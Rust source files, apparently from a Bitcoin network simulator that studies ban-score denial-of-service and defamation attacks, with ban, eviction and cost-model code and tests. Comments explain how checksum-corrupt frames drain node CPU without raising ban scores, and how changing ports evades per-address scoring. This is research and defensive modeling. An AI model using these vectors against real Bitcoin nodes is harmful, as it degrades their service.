pub struct MisbehaviorTracker {
    /// Rule-set version.
    pub version: CoreVersion,
    /// Reaction policy.
    pub policy: BanPolicy,
    /// Ban threshold (Bitcoin's `-banscore`, default 100).
    pub threshold: u32,
    scores: BTreeMap<SockAddr, u32>,
    events: Vec<ScoreEvent>,
}

impl MisbehaviorTracker {
    /// Creates a tracker with the stock threshold of 100.
    pub fn new(version: CoreVersion, policy: BanPolicy) -> Self {
        MisbehaviorTracker {
            version,
            policy,
            threshold: btc_wire::constants::DEFAULT_BANSCORE_THRESHOLD,
            scores: BTreeMap::new(),
            events: Vec::new(),
        }
    }

    /// Records a misbehavior by `peer` and returns what to do about it.
    ///
    /// Deprecated rules, rules that don't apply to the peer's direction,
    /// and the [`BanPolicy::Disabled`] policy all yield
    /// [`Verdict::Ignored`].
    pub fn misbehaving(
        &mut self,
        now: Nanos,
        peer: SockAddr,
        inbound: bool,
        rule: Misbehavior,
    ) -> Verdict {
        if self.policy == BanPolicy::Disabled {
            return Verdict::Ignored;
        }
        if !rule.applies_to(inbound) {
            return Verdict::Ignored;
        }
        let Some(delta) = rule.penalty(self.version) else {
            return Verdict::Ignored;
        };
        let score = self.scores.entry(peer).or_insert(0);
        *score = score.saturating_add(delta);
        let total = *score;
        self.events.push(ScoreEvent {
            time: now,
            peer,
            rule,
            delta,
            total,
        });
        if total >= self.threshold && self.policy == BanPolicy::Standard {
            Verdict::Ban { total }
        } else {
            Verdict::Scored { total }
        }
    }

    /// Applies a custom score increment outside Table I (ablation hook for
    /// counterfactual rules like punishing corrupted checksums).
    pub fn penalize(&mut self, now: Nanos, peer: SockAddr, delta: u32) -> Verdict {
        if self.policy == BanPolicy::Disabled || delta == 0 {
            return Verdict::Ignored;
        }
        let score = self.scores.entry(peer).or_insert(0);
        *score = score.saturating_add(delta);
        let total = *score;
        self.events.push(ScoreEvent {
            time: now,
            peer,
            rule: Misbehavior::ChecksumCorrupt,
            delta,
            total,
        });
        if total >= self.threshold && self.policy == BanPolicy::Standard {
            Verdict::Ban { total }
        } else {
            Verdict::Scored { total }
        }
    }

    /// Current score of a peer (0 if never seen).
    pub fn score(&self, peer: &SockAddr) -> u32 {
        self.scores.get(peer).copied().unwrap_or(0)
    }

    /// Forgets a peer's score (Core does this on disconnect).
    pub fn forget(&mut self, peer: &SockAddr) {
        self.scores.remove(peer);
    }

    /// Every score change recorded so far.
    pub fn events(&self) -> &[ScoreEvent] {
        &self.events
    }

    /// Number of peers with a nonzero score.
    pub fn tracked_peers(&self) -> usize {
        self.scores.len()
    }
}

/// Maximum credit a peer can accumulate. Without a cap, a long-lived
/// idle peer holds eviction immunity forever — exactly the brittleness
/// the trust-tier engine is meant to remove.
pub const GOOD_SCORE_CAP: u64 = 64;

/// Credit half-life on sim time: stored credit halves once per hour of
/// inactivity (integer halving, so the decay is exact and deterministic).
pub const GOOD_SCORE_HALF_LIFE: Nanos = 60 * btc_netsim::time::MINUTES;

/// The §VIII *good-score* countermeasure: peers earn credit (+1 per valid
/// `BLOCK`), and the node prefers evicting low-credit peers instead of
/// banning identifiers — an innocent peer with history cannot be defamed
/// into a ban.
///
/// Credit is capped at [`GOOD_SCORE_CAP`] and decays on sim time with
/// half-life [`GOOD_SCORE_HALF_LIFE`] (one right-shift per elapsed
/// half-life), so immunity has to be re-earned rather than hoarded.
#[derive(Clone, Debug, Default)]
pub struct GoodScoreTracker {
    scores: BTreeMap<SockAddr, (u64, Nanos)>,
}

impl GoodScoreTracker {
    /// Creates an empty tracker.
    pub fn new() -> Self {
        Self::default()
    }

    /// Stored credit halved once per elapsed half-life since `since`.
    fn decayed(stored: u64, since: Nanos, now: Nanos) -> u64 {
        let elapsed = now.saturating_sub(since);
        let halvings = (elapsed / GOOD_SCORE_HALF_LIFE).min(63);
        stored >> halvings
    }

    /// Credits `peer` for a valid block at sim time `now`.
    pub fn credit(&mut self, now: Nanos, peer: SockAddr) {
        let entry = self.scores.entry(peer).or_insert((0, now));
        let current = Self::decayed(entry.0, entry.1, now.max(entry.1));
        *entry = ((current + 1).min(GOOD_SCORE_CAP), now.max(entry.1));
    }

    /// Current (decayed) credit of a peer at sim time `now`.
    pub fn score(&self, now: Nanos, peer: &SockAddr) -> u64 {
        self.scores
            .get(peer)
            .map(|(s, t)| Self::decayed(*s, *t, now.max(*t)))
            .unwrap_or(0)
    }

    /// Whether `peer` has enough credit to be shielded from banning.
    pub fn is_trusted(&self, now: Nanos, peer: &SockAddr, min_credit: u64) -> bool {
        self.score(now, peer) >= min_credit
    }

    /// The peer with the lowest credit among `candidates` (eviction choice).
    pub fn eviction_candidate<'a>(
        &self,
        now: Nanos,
        candidates: impl IntoIterator<Item = &'a SockAddr>,
    ) -> Option<SockAddr> {
        candidates
            .into_iter()
            .min_by_key(|p| (self.score(now, p), **p))
            .copied()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn peer(last: u8) -> SockAddr {
        SockAddr::new([10, 0, 0, last], 8333)
    }

    #[test]
    fn scores_accumulate_to_ban() {
        let mut t = MisbehaviorTracker::new(CoreVersion::V0_20, BanPolicy::Standard);
        let p = peer(1);
        // 4 × 20 = 80, then 20 more = 100 → ban.
        for i in 1..=4 {
            let v = t.misbehaving(i, p, true, Misbehavior::AddrOversize);
            assert_eq!(v, Verdict::Scored { total: i as u32 * 20 });
        }
        let v = t.misbehaving(5, p, true, Misbehavior::AddrOversize);
        assert_eq!(v, Verdict::Ban { total: 100 });
    }

    #[test]
    fn hundred_point_rules_ban_instantly() {
        let mut t = MisbehaviorTracker::new(CoreVersion::V0_20, BanPolicy::Standard);
        assert_eq!(
            t.misbehaving(0, peer(1), true, Misbehavior::BlockMutated),
            Verdict::Ban { total: 100 }
        );
    }

    #[test]
    fn duplicate_version_takes_100_messages() {
        let mut t = MisbehaviorTracker::new(CoreVersion::V0_20, BanPolicy::Standard);
        let p = peer(2);
        for i in 1..100u32 {
            assert_eq!(
                t.misbehaving(i as u64, p, true, Misbehavior::DuplicateVersion),
                Verdict::Scored { total: i }
            );
        }
        assert_eq!(
            t.misbehaving(100, p, true, Misbehavior::DuplicateVersion),
            Verdict::Ban { total: 100 }
        );
    }

    #[test]
    fn direction_restrictions_respected() {
        let mut t = MisbehaviorTracker::new(CoreVersion::V0_20, BanPolicy::Standard);
        // Inbound-only rule ignored for outbound peer.
        assert_eq!(
            t.misbehaving(0, peer(1), false, Misbehavior::DuplicateVersion),
            Verdict::Ignored
        );
        // Outbound-only rule ignored for inbound peer.
        assert_eq!(
            t.misbehaving(0, peer(1), true, Misbehavior::BlockCachedInvalid),
            Verdict::Ignored
        );
        assert_eq!(t.score(&peer(1)), 0);
    }

    #[test]
    fn deprecated_rules_ignored() {
        let mut t = MisbehaviorTracker::new(CoreVersion::V0_22, BanPolicy::Standard);
        assert_eq!(
            t.misbehaving(0, peer(1), true, Misbehavior::DuplicateVersion),
            Verdict::Ignored
        );
    }

    #[test]
    fn never_ban_policy_keeps_counting() {
        let mut t = MisbehaviorTracker::new(CoreVersion::V0_20, BanPolicy::NeverBan);
        let p = peer(3);
        for _ in 0..50 {
            let v = t.misbehaving(0, p, true, Misbehavior::BlockMutated);
            assert!(matches!(v, Verdict::Scored { .. }));
        }
        assert_eq!(t.score(&p), 5000);
    }

    #[test]
    fn disabled_policy_tracks_nothing() {
        let mut t = MisbehaviorTracker::new(CoreVersion::V0_20, BanPolicy::Disabled);
        assert_eq!(
            t.misbehaving(0, peer(1), true, Misbehavior::BlockMutated),
            Verdict::Ignored
        );
        assert_eq!(t.score(&peer(1)), 0);
        assert!(t.events().is_empty());
    }

    #[test]
    fn events_form_a_staircase() {
        let mut t = MisbehaviorTracker::new(CoreVersion::V0_20, BanPolicy::Standard);
        let p = peer(4);
        for i in 0..100u64 {
            t.misbehaving(i, p, true, Misbehavior::DuplicateVersion);
        }
        let ev = t.events();
        assert_eq!(ev.len(), 100);
        for (i, e) in ev.iter().enumerate() {
            assert_eq!(e.total, i as u32 + 1);
            assert_eq!(e.delta, 1);
        }
    }

    #[test]
    fn forget_resets_score() {
        let mut t = MisbehaviorTracker::new(CoreVersion::V0_20, BanPolicy::Standard);
        t.misbehaving(0, peer(1), true, Misbehavior::AddrOversize);
        assert_eq!(t.score(&peer(1)), 20);
        t.forget(&peer(1));
        assert_eq!(t.score(&peer(1)), 0);
    }

    #[test]
    fn scores_are_per_identifier_not_per_ip() {
        // The Sybil vector: same IP, different port = fresh score.
        let mut t = MisbehaviorTracker::new(CoreVersion::V0_20, BanPolicy::Standard);
        let a = SockAddr::new([10, 0, 0, 9], 50_000);
        let b = SockAddr::new([10, 0, 0, 9], 50_001);
        t.misbehaving(0, a, true, Misbehavior::BlockMutated);
        assert_eq!(t.score(&a), 100);
        assert_eq!(t.score(&b), 0);
    }

    #[test]
    fn good_score_credits_and_trust() {
        let mut g = GoodScoreTracker::new();
        let p = peer(5);
        assert!(!g.is_trusted(0, &p, 1));
        for _ in 0..3 {
            g.credit(0, p);
        }
        assert_eq!(g.score(0, &p), 3);
        assert!(g.is_trusted(0, &p, 3));
        assert!(!g.is_trusted(0, &p, 4));
    }

    #[test]
    fn good_score_eviction_prefers_lowest_credit() {
        let mut g = GoodScoreTracker::new();
        let a = peer(1);
        let b = peer(2);
        g.credit(0, a);
        g.credit(0, a);
        g.credit(0, b);
        assert_eq!(g.eviction_candidate(0, [&a, &b]), Some(b));
    }

    #[test]
    fn good_score_credit_is_capped() {
        // Regression: credit used to grow without bound, so a long-lived
        // peer held eviction immunity forever.
        let mut g = GoodScoreTracker::new();
        let p = peer(6);
        for _ in 0..10 * GOOD_SCORE_CAP {
            g.credit(0, p);
        }
        assert_eq!(g.score(0, &p), GOOD_SCORE_CAP);
    }

    #[test]
    fn good_score_decays_on_sim_time() {
        let mut g = GoodScoreTracker::new();
        let p = peer(7);
        for _ in 0..8 {
            g.credit(0, p);
        }
        assert_eq!(g.score(0, &p), 8);
        // Within one half-life: unchanged.
        assert_eq!(g.score(GOOD_SCORE_HALF_LIFE - 1, &p), 8);
        // One halving per elapsed half-life, down to zero.
        assert_eq!(g.score(GOOD_SCORE_HALF_LIFE, &p), 4);
        assert_eq!(g.score(2 * GOOD_SCORE_HALF_LIFE, &p), 2);
        assert_eq!(g.score(3 * GOOD_SCORE_HALF_LIFE, &p), 1);
        assert_eq!(g.score(4 * GOOD_SCORE_HALF_LIFE, &p), 0);
        // A credit after decay rebuilds from the decayed value, and a
        // huge gap cannot shift past the integer width.
        g.credit(2 * GOOD_SCORE_HALF_LIFE, p);
        assert_eq!(g.score(2 * GOOD_SCORE_HALF_LIFE, &p), 3);
        assert_eq!(g.score(Nanos::MAX, &p), 0);
    }

    #[test]
    fn good_score_time_never_runs_backwards() {
        // Out-of-order queries (now < last update) must not underflow or
        // inflate the score: the tracker clamps to the last-update time.
        let mut g = GoodScoreTracker::new();
        let p = peer(8);
        g.credit(5 * GOOD_SCORE_HALF_LIFE, p);
        assert_eq!(g.score(0, &p), 1);
        g.credit(0, p);
        assert_eq!(g.score(5 * GOOD_SCORE_HALF_LIFE, &p), 2);
    }

    #[test]
    fn penalize_saturates_near_u32_max() {
        // Regression (satellite audit): repeated large strikes must pin at
        // u32::MAX instead of wrapping back below the threshold.
        let mut t = MisbehaviorTracker::new(CoreVersion::V0_20, BanPolicy::NeverBan);
        let p = peer(9);
        t.penalize(0, p, u32::MAX - 50);
        assert_eq!(t.score(&p), u32::MAX - 50);
        assert_eq!(t.penalize(1, p, 100), Verdict::Scored { total: u32::MAX });
        assert_eq!(t.penalize(2, p, u32::MAX), Verdict::Scored { total: u32::MAX });
        assert_eq!(t.score(&p), u32::MAX);
    }

    #[test]
    fn misbehaving_saturates_near_u32_max() {
        let mut t = MisbehaviorTracker::new(CoreVersion::V0_20, BanPolicy::Standard);
        let p = peer(10);
        t.penalize(0, p, u32::MAX - 50);
        // A 100-point strike on top of MAX-50 saturates and still bans;
        // further strikes stay pinned at MAX (no wrap past the threshold).
        assert_eq!(
            t.misbehaving(1, p, true, Misbehavior::BlockMutated),
            Verdict::Ban { total: u32::MAX }
        );
        assert_eq!(
            t.misbehaving(2, p, true, Misbehavior::BlockMutated),
            Verdict::Ban { total: u32::MAX }
        );
    }
}
