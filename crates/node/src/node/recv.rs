//! The zero-copy, batch-drained receive path (DESIGN.md §14).
//!
//! One delivery tick runs two phases:
//!
//! * **Phase A — scan.** The peer is resolved once. Every complete frame
//!   in the buffered region is parsed in one pass with
//!   [`read_frame_at`]: payloads are refcounted slices of the peer's
//!   `RecvBuffer` window (no per-frame allocation), the read cursor
//!   advances past each frame, and the frames land in a scratch `Vec`
//!   reused across ticks. Scanning is pure — no charges, no telemetry, no
//!   state changes beyond the cursor and the `messages_received` count —
//!   so batching it cannot reorder anything observable.
//!
//! * **Phase B — process.** Each scanned frame pays the paper's stage
//!   sequence exactly as the frame-at-a-time loop did: charge checksum
//!   (+ interference), verify checksum (**before** any misbehavior
//!   tracking — BM-DoS vector 2 depends on this ordering), charge decode,
//!   decode, charge handler, record telemetry, then handshake gate /
//!   handler. If a frame bans or disconnects the peer mid-batch,
//!   processing stops there, like the old loop's top-of-iteration peer
//!   lookup — later frames (and their CPU charges) never happen.
//!
//! A framing error found by the scan (wrong magic, oversized length)
//! disconnects the peer after the preceding well-formed frames are
//! processed — the same order the frame-at-a-time loop produced. After a
//! tick, a peer holding more unframed bytes than
//! `NodeConfig::recv_buffer_limit` is disconnected: a valid stream can
//! never buffer more than one incomplete frame.

use super::{Node, PeerPolicy};
use crate::banscore::Tier;
use crate::metrics::msg_type_id;
use btc_netsim::sim::Ctx;
use btc_netsim::tcp::ConnId;
use btc_wire::encode::{DecodeError, DecodeResult};
use btc_wire::message::{read_frame_at, verify_checksum, FrameResult, Message};

impl Node {
    /// Drains and processes every complete frame buffered for `conn`.
    pub(super) fn process_frames(&mut self, ctx: &mut Ctx<'_>, conn: ConnId) {
        // Phase A: resolve the peer once and scan the whole buffered
        // region. The scratch vector lives on the node so the steady
        // state allocates nothing.
        let mut frames = std::mem::take(&mut self.frame_scratch);
        let mut scan_error: Option<DecodeError> = None;
        {
            let Some(peer) = self.peers.get_mut(&conn) else {
                self.frame_scratch = frames;
                return;
            };
            let window = peer.recv_buf.window();
            let mut offset = 0usize;
            loop {
                match read_frame_at(self.config.network, &window, offset) {
                    Ok(FrameResult::Frame { raw, consumed }) => {
                        offset += consumed;
                        peer.messages_received += 1;
                        frames.push(raw);
                    }
                    Ok(FrameResult::Incomplete) => break,
                    Err(e) => {
                        scan_error = Some(e);
                        break;
                    }
                }
            }
            peer.recv_buf.advance(offset);
        }

        // Phase B: run the per-frame stage sequence in arrival order.
        // Breaking out of the loop drops the remaining frames (and their
        // payload borrows of the peer buffer) with the `Drain`.
        for raw in frames.drain(..) {
            // A mid-batch ban/disconnect removed the peer: stop, exactly
            // where the frame-at-a-time loop stopped. Remaining frames are
            // dropped with the peer's buffer.
            if !self.peers.contains_key(&conn) {
                break;
            }
            // Stage 2: checksum. The victim pays the hash pass for every
            // frame, valid or not.
            ctx.charge_cpu(self.config.cost.checksum_cost(raw.payload.len()));
            if self.config.charge_interference {
                ctx.charge_cpu(self.config.cost.interference_cost(raw.payload.len()));
            }
            if verify_checksum(&raw).is_err() {
                // BM-DoS vector 2: dropped before misbehavior tracking;
                // the sender's score never moves.
                self.telemetry.bad_checksum_frames += 1;
                if let Some(points) = self.config.punish_bad_checksum_score {
                    // Counterfactual design (ablation): treat a
                    // checksum-corrupt frame as misbehavior.
                    self.punish_raw(ctx, conn, points);
                }
                continue;
            }
            // Trust-tier policy only: account the frame against the peer's
            // flood-pressure bucket and, for graylisted peers, the service
            // rate limit — before the node pays the decode cost. A no-op
            // under the stock policy, keeping its digests bit-identical.
            if self.config.peer_policy == PeerPolicy::TrustTiers {
                let Some(addr) = self.peers.get(&conn).map(|p| p.addr) else {
                    break;
                };
                let outcome = self.reputation.on_message(self.now, addr);
                self.note_tier_events();
                if outcome.changed() && outcome.to == Tier::Graylist {
                    self.telemetry.graylists += 1;
                }
                if outcome.banned() {
                    self.telemetry.bans += 1;
                    self.banman.ban(self.now, addr);
                    self.disconnect(ctx, conn, true);
                    continue;
                }
                if !outcome.deliver {
                    // Graylist service rate limit: the frame is dropped
                    // after the checksum stage, unserviced.
                    self.telemetry.graylist_dropped += 1;
                    continue;
                }
            }
            // Stage 3: decode.
            ctx.charge_cpu(self.config.cost.decode_cost(raw.payload.len()));
            let decoded: DecodeResult<Message> = raw
                .header
                .command_str()
                .and_then(|cmd| Message::decode_payload(cmd, &raw.payload));
            let msg = match decoded {
                Ok(m) => m,
                Err(_) => {
                    // Unknown commands are ignored, like Core; malformed
                    // payloads count the same way.
                    self.telemetry.undecodable_frames += 1;
                    continue;
                }
            };
            // Stage 4: handler + misbehavior tracking.
            ctx.charge_cpu(self.config.cost.handler_cost(&msg));
            if let (Some(id), Some(p)) = (msg_type_id(msg.command()), self.peers.get(&conn)) {
                self.telemetry
                    .record_message(self.now, id, raw.payload.len() as u32, p.addr);
            }
            if !self.handshake(ctx, conn, &msg) {
                self.handle_message(ctx, conn, msg);
            }
        }
        self.frame_scratch = frames;

        if scan_error.is_some() && self.peers.contains_key(&conn) {
            // Wrong magic / insane length: drop the connection (no ban —
            // transport-level garbage).
            self.disconnect(ctx, conn, true);
            return;
        }
        if let Some(peer) = self.peers.get(&conn) {
            if peer.recv_buf.unconsumed() > self.config.recv_buffer_limit {
                // Drip-fed eternally-incomplete frame: bound the buffer.
                self.disconnect(ctx, conn, true);
            }
        }
    }
}
