//! Processing-cost model: cycles charged to the victim's CPU for each stage
//! of the receive path.
//!
//! Two tiers, matching how the paper reports costs:
//!
//! * **Micro costs** ([`CostModel`]) follow the *relative* per-query
//!   processing costs of Table II — checksum work scales with payload
//!   bytes, block validation with transaction count, etc. These drive the
//!   in-simulator CPU accounting.
//! * **Interference costs** ([`CostModel::interference_cost`]) add the
//!   fixed per-message overhead a real `bitcoind` pays per delivered
//!   message (socket wake-up, lock acquisition, thread scheduling on the
//!   paper's single-vCPU testbed). The constant is calibrated once against
//!   Figure 6's single-connection operating points and documented in
//!   EXPERIMENTS.md; it is what makes message *rate* — not just message
//!   *bytes* — hurt the mining loop.

use btc_wire::message::Message;

/// Cycles per payload byte for the `sha256d` checksum pass (every frame
/// pays this, including frames whose checksum turns out wrong).
///
/// Like [`btc_netsim::cpu::DEFAULT_CYCLES_PER_HASH`], this is calibrated
/// to the *paper's* testbed (a software `sha256d` on a 4 GHz core), not to
/// this repository's hash implementation: the pre-overhaul local software
/// hash measured ≈20 cycles/byte (`wire/crypto sha256d_1000B`, 5 131 ns/kB)
/// — the same order as this constant — while the SHA-NI path measures
/// ≈3 cycles/byte (821 ns/kB; see `results/BENCH_hashpath.json`). Use
/// [`checksum_cycles_per_byte`] to re-derive the constant from a measured
/// bulk-hash throughput when modeling different victim hardware.
pub const CHECKSUM_CYCLES_PER_BYTE: u64 = 15;

/// Converts a measured bulk `sha256d` time (ns per byte hashed) into the
/// model's cycles/byte at a given CPU capacity, floored at 1 — the
/// checksum-path analogue of [`btc_netsim::cpu::cycles_per_hash`].
///
/// Feed it `median_ns / bytes` of a `wire/crypto sha256d_*B` record from
/// `results/BENCH_hashpath.json`.
pub fn checksum_cycles_per_byte(capacity_hz: u64, ns_per_byte: f64) -> u64 {
    let cycles = (capacity_hz as f64 * ns_per_byte / 1e9).round();
    (cycles as u64).max(1)
}

/// Fixed cycles for header parsing + checksum finalization.
pub const FRAME_BASE_CYCLES: u64 = 2_000;

/// Cycles per payload byte for payload deserialization.
pub const DECODE_CYCLES_PER_BYTE: u64 = 2;

/// Fixed per-message interference overhead (socket wake-up + locks on the
/// paper's testbed); calibrated to Figure 6. See EXPERIMENTS.md.
pub const INTERFERENCE_WAKEUP_CYCLES: u64 = 1_600_000;

/// Per-byte interference cost (copy + checksum at memory bandwidth).
pub const INTERFERENCE_CYCLES_PER_BYTE: u64 = 25;

/// The victim-side processing cost model.
#[derive(Clone, Copy, Debug)]
pub struct CostModel {
    /// Cycles per checksum byte.
    pub checksum_per_byte: u64,
    /// Fixed frame cost.
    pub frame_base: u64,
    /// Cycles per decoded byte.
    pub decode_per_byte: u64,
    /// Fixed per-message interference overhead.
    pub interference_wakeup: u64,
    /// Per-byte interference cost.
    pub interference_per_byte: u64,
}

impl Default for CostModel {
    fn default() -> Self {
        CostModel {
            checksum_per_byte: CHECKSUM_CYCLES_PER_BYTE,
            frame_base: FRAME_BASE_CYCLES,
            decode_per_byte: DECODE_CYCLES_PER_BYTE,
            interference_wakeup: INTERFERENCE_WAKEUP_CYCLES,
            interference_per_byte: INTERFERENCE_CYCLES_PER_BYTE,
        }
    }
}

impl CostModel {
    /// Cycles to verify a frame's checksum over `payload_len` bytes. Paid
    /// by *every* arriving frame — this is all a bogus-checksum message
    /// costs the victim at the application layer, and all it ever pays.
    pub fn checksum_cost(&self, payload_len: usize) -> u64 {
        self.frame_base + self.checksum_per_byte * payload_len as u64
    }

    /// Cycles to deserialize a payload of `payload_len` bytes.
    pub fn decode_cost(&self, payload_len: usize) -> u64 {
        self.decode_per_byte * payload_len as u64
    }

    /// Cycles for the type-specific handler, mirroring Table II's ordering:
    /// `BLOCK` (full validation) ≫ `BLOCKTXN`/`CMPCTBLOCK` ≫ `TX` ≫
    /// handshake messages ≫ trivial notifications.
    pub fn handler_cost(&self, msg: &Message) -> u64 {
        match msg {
            // Full block validation: PoW (2 hashes) + merkle rebuild
            // (~2 hashes/tx) + per-tx checks.
            Message::Block(b) => 60_000 + 45_000 * b.txs.len() as u64,
            // Reconstruct + validate from compact parts.
            Message::BlockTxn(bt) => 20_000 + 35_000 * bt.txs.len() as u64,
            Message::CmpctBlock(cb) => {
                10_000 + 1_200 * cb.short_ids.len() as u64 + 30_000 * cb.prefilled.len() as u64
            }
            Message::Tx(tx) => {
                4_000 + 1_500 * tx.inputs().len() as u64 + 300 * tx.outputs().len() as u64
            }
            Message::GetBlockTxn(req) => 2_500 + 40 * req.diff_indices.len() as u64,
            Message::Version(_) => 1_300,
            Message::Verack => 2_400,
            Message::Addr(v) => 250 + 30 * v.len() as u64,
            Message::Inv(v) | Message::GetData(v) | Message::NotFound(v) => {
                300 + 15 * v.len() as u64
            }
            Message::GetHeaders(_) | Message::GetBlocks(_) => 400,
            Message::Headers(v) => 200 + 160 * v.len() as u64,
            Message::Ping(_) => 950,
            Message::Pong(_) => 100,
            Message::FilterLoad(f) => 500 + 2 * f.data.len() as u64,
            Message::FilterAdd(_) => 400,
            Message::FilterClear => 100,
            Message::MerkleBlock(m) => 500 + 120 * m.hashes.len() as u64,
            Message::SendHeaders => 70,
            Message::FeeFilter(_) => 90,
            Message::SendCmpct(_) => 50,
            Message::GetAddr => 300,
            Message::Mempool => 600,
            Message::Reject(_) => 100,
        }
    }

    /// Full application-layer cost of a successfully decoded message.
    pub fn full_cost(&self, msg: &Message, payload_len: usize) -> u64 {
        self.checksum_cost(payload_len) + self.decode_cost(payload_len) + self.handler_cost(msg)
    }

    /// The calibrated end-to-end interference a delivered message inflicts
    /// on a co-located miner (see module docs).
    pub fn interference_cost(&self, payload_len: usize) -> u64 {
        self.interference_wakeup + self.interference_per_byte * payload_len as u64
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use btc_wire::block::{Block, BlockHeader};
    use btc_wire::tx::Transaction;

    fn block(ntx: usize) -> Message {
        let mut txs = vec![Transaction::coinbase(50, b"cb")];
        for i in 0..ntx {
            let mut t = Transaction::coinbase(1, &[i as u8, 0, 0]);
            t.inputs_mut()[0].prevout =
                btc_wire::tx::OutPoint::new(btc_wire::types::Hash256::hash(&[i as u8]), 0);
            txs.push(t);
        }
        let mut b = Block {
            header: BlockHeader::default(),
            txs,
        };
        b.header.merkle_root = b.merkle_root();
        b.header.mine();
        Message::Block(b)
    }

    #[test]
    fn block_dominates_table2_ordering() {
        let m = CostModel::default();
        let block_cost = m.handler_cost(&block(100));
        let ping_cost = m.handler_cost(&Message::Ping(0));
        let pong_cost = m.handler_cost(&Message::Pong(0));
        // Paper Table II: BLOCK ~617k clocks vs PING ~96 vs PONG ~10.
        assert!(block_cost > 1000 * ping_cost);
        assert!(ping_cost > pong_cost);
    }

    #[test]
    fn checksum_cycles_rederivation() {
        // Pre-overhaul software hash: 5131 ns/kB at 4 GHz ≈ 21 cycles/B,
        // the same order as the paper-calibrated default.
        assert_eq!(checksum_cycles_per_byte(4_000_000_000, 5.131), 21);
        // Post-overhaul SHA-NI: 821 ns/kB ≈ 3 cycles/B.
        assert_eq!(checksum_cycles_per_byte(4_000_000_000, 0.821), 3);
        // Degenerate measurements still yield a usable per-byte cost
        // (the model requires it to stay positive).
        assert_eq!(checksum_cycles_per_byte(4_000_000_000, 0.0), 1);
        assert!(CHECKSUM_CYCLES_PER_BYTE as f64 > 0.2);
    }

    #[test]
    fn checksum_scales_with_payload() {
        let m = CostModel::default();
        assert!(m.checksum_cost(1_000_000) > 100 * m.checksum_cost(100));
        assert_eq!(m.checksum_cost(0), FRAME_BASE_CYCLES);
    }

    #[test]
    fn bogus_checksum_cost_less_than_full_processing() {
        // The bogus-BLOCK vector: victim pays the checksum pass only.
        let m = CostModel::default();
        let msg = block(50);
        let payload = msg.encode_payload().len();
        assert!(m.checksum_cost(payload) < m.full_cost(&msg, payload));
    }

    #[test]
    fn verack_costs_more_than_version() {
        // Table II quirk the paper reports: VERACK (241 clocks) > VERSION
        // (129 clocks), because VERACK finalizes the session state.
        let m = CostModel::default();
        assert!(m.handler_cost(&Message::Verack) > m.handler_cost(&Message::Version(
            btc_wire::message::VersionMessage::new(Default::default(), Default::default(), 0)
        )));
    }

    #[test]
    fn interference_dominated_by_wakeup_for_small_messages() {
        let m = CostModel::default();
        let ping = m.interference_cost(8);
        assert!(ping < m.interference_wakeup + 8 * m.interference_per_byte + 1);
        // But large payloads add real cost.
        let block = m.interference_cost(1_000_000);
        assert!(block > 5 * ping);
    }
}
