//! A simplified address manager ("addrman") with the *peer-table
//! diversity* metric of §VI-D.
//!
//! The paper's full-IP Defamation attack "decreases the peer-table
//! diversity of the target node": every banned identifier shrinks the set
//! of usable addresses. This module keeps the known-address table,
//! tracks which entries are currently usable (not banned), and measures
//! diversity as the number of distinct /16 netgroups among usable
//! addresses — the granularity Bitcoin Core buckets by.

use crate::banman::BanMan;
use btc_netsim::packet::SockAddr;
use btc_netsim::time::Nanos;
use std::collections::BTreeMap;

/// How an address entered the table.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum AddrSource {
    /// Configured at start (`-addnode`-style).
    Seed,
    /// Learned from `ADDR` gossip.
    Gossip,
    /// Observed as an inbound connection.
    Inbound,
}

/// One known address.
#[derive(Clone, Copy, Debug)]
pub struct AddrEntry {
    /// Where it came from.
    pub source: AddrSource,
    /// When we first learned it.
    pub first_seen: Nanos,
    /// When we last had a successful session with it.
    pub last_success: Option<Nanos>,
    /// Failed connection attempts since the last success.
    pub failures: u32,
}

/// The address manager.
#[derive(Clone, Debug, Default)]
pub struct AddrMan {
    entries: BTreeMap<SockAddr, AddrEntry>,
}

impl AddrMan {
    /// Creates an empty table.
    pub fn new() -> Self {
        Self::default()
    }

    /// Records `addr` (no-op if already known; first source wins).
    pub fn add(&mut self, now: Nanos, addr: SockAddr, source: AddrSource) {
        self.entries.entry(addr).or_insert(AddrEntry {
            source,
            first_seen: now,
            last_success: None,
            failures: 0,
        });
    }

    /// Marks a successful session with `addr`.
    pub fn mark_success(&mut self, now: Nanos, addr: &SockAddr) {
        if let Some(e) = self.entries.get_mut(addr) {
            e.last_success = Some(now);
            e.failures = 0;
        }
    }

    /// Marks a failed connection attempt.
    pub fn mark_failure(&mut self, addr: &SockAddr) {
        if let Some(e) = self.entries.get_mut(addr) {
            e.failures += 1;
        }
    }

    /// Number of known addresses.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether the table is empty.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Whether `addr` is known.
    pub fn contains(&self, addr: &SockAddr) -> bool {
        self.entries.contains_key(addr)
    }

    /// All addresses (deterministic order).
    pub fn addresses(&self) -> impl Iterator<Item = &SockAddr> {
        self.entries.keys()
    }

    /// Entry metadata.
    pub fn entry(&self, addr: &SockAddr) -> Option<&AddrEntry> {
        self.entries.get(addr)
    }

    /// Addresses usable at `now` — known, not banned, and not persistently
    /// failing.
    pub fn usable<'a>(&'a self, now: Nanos, banman: &'a BanMan) -> impl Iterator<Item = SockAddr> + 'a {
        self.entries
            .iter()
            .filter(move |(a, e)| !banman.is_banned(now, a) && e.failures < 8)
            .map(|(a, _)| *a)
    }

    /// The §VI-D diversity metric: distinct /16 netgroups among usable
    /// addresses.
    pub fn diversity(&self, now: Nanos, banman: &BanMan) -> usize {
        let mut groups: Vec<[u8; 2]> = self
            .usable(now, banman)
            .map(|a| {
                let [g0, g1, _, _] = a.ip;
                [g0, g1]
            })
            .collect();
        groups.sort_unstable();
        groups.dedup();
        groups.len()
    }

    /// Usable address count (the paper's "potentially available
    /// identifiers").
    pub fn usable_count(&self, now: Nanos, banman: &BanMan) -> usize {
        self.usable(now, banman).count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn addr(a: u8, b: u8, port: u16) -> SockAddr {
        SockAddr::new([10, a, b, 1], port)
    }

    #[test]
    fn add_is_idempotent_first_source_wins() {
        let mut am = AddrMan::new();
        am.add(0, addr(0, 0, 8333), AddrSource::Seed);
        am.add(5, addr(0, 0, 8333), AddrSource::Gossip);
        assert_eq!(am.len(), 1);
        assert_eq!(am.entry(&addr(0, 0, 8333)).unwrap().source, AddrSource::Seed);
